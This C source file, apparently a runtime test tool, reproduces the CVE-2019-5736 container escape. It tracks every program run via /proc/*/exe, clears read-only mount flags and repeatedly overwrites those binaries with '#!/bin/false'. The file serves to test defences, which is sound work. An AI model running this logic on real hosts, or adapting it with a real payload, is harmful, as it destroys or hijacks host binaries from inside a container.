/* SPDX-License-Identifier: Apache-2.0 */
/*
 * hunter SECONDS
 *
 * What a hostile process in a container does to the file of the runtime (CVE-2019-5736): keeps a descriptor of every program that any
 * process runs, tries to make its mount writable, and opens each for writing, again and again, until that works or the time is over.
 * Prints "seen INODE" for each file, "opened INODE" when one could be opened for writing, and "wrote INODE" when it was overwritten.
 */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define TARGETS_MAX 256
#define SAME_MAX 24

static struct target {
        dev_t device;
        ino_t inode;
        int fd;
        int opened, written;
} targets[TARGETS_MAX];
static size_t target_count;

static void keep(int fd)
{
        struct stat st;
        int same = 0;

        if (fstat(fd, &st) < 0 || target_count == TARGETS_MAX) {
                (void)close(fd);
                return;
        }
        /* The same file may be seen by several mounts, of which one may be writable. */
        for (size_t i = 0; i < target_count; i++)
                if (targets[i].device == st.st_dev && targets[i].inode == st.st_ino)
                        same++;
        if (same >= SAME_MAX) {
                (void)close(fd);
                return;
        }
        targets[target_count++] = (struct target){st.st_dev, st.st_ino, fd, 0, 0};
        (void)printf("seen %llu\n", (unsigned long long)st.st_ino);
}

static void look(void)
{
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc != NULL && (entry = readdir(proc)) != NULL) {
                char path[64];
                int fd;

                if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
                        continue;
                (void)snprintf(path, sizeof(path), "/proc/%.20s/exe", entry->d_name);
                fd = open(path, O_PATH | O_CLOEXEC);
                if (fd >= 0)
                        keep(fd);
        }
        if (proc != NULL)
                (void)closedir(proc);
}

static void attack(struct target *target)
{
        struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
        char path[64];
        int fd;

        if (target->written)
                return;
        (void)syscall(SYS_mount_setattr, target->fd, "", AT_EMPTY_PATH, &attr, sizeof(attr));
        (void)snprintf(path, sizeof(path), "/proc/self/fd/%d", target->fd);
        fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
                return;
        if (!target->opened)
                (void)printf("opened %llu\n", (unsigned long long)target->inode);
        target->opened = 1;
        target->written = write(fd, "#!/bin/false\n", 13) == 13;
        if (target->written)
                (void)printf("wrote %llu\n", (unsigned long long)target->inode);
        (void)close(fd);
}

int main(int argc, char **argv)
{
        struct timespec now, end;
        time_t seconds = 0;

        (void)setvbuf(stdout, NULL, _IOLBF, 0);
        (void)clock_gettime(CLOCK_MONOTONIC, &end);
        for (const char *digit = argc > 1 ? argv[1] : ""; *digit != '\0'; digit++)
                seconds = seconds * 10 + (*digit - '0');
        end.tv_sec += seconds;
        do {
                look();
                for (size_t i = 0; i < target_count; i++)
                        attack(&targets[i]);
                (void)clock_gettime(CLOCK_MONOTONIC, &now);
        } while (now.tv_sec < end.tv_sec);
        (void)printf("done\n");
        return 0;
}
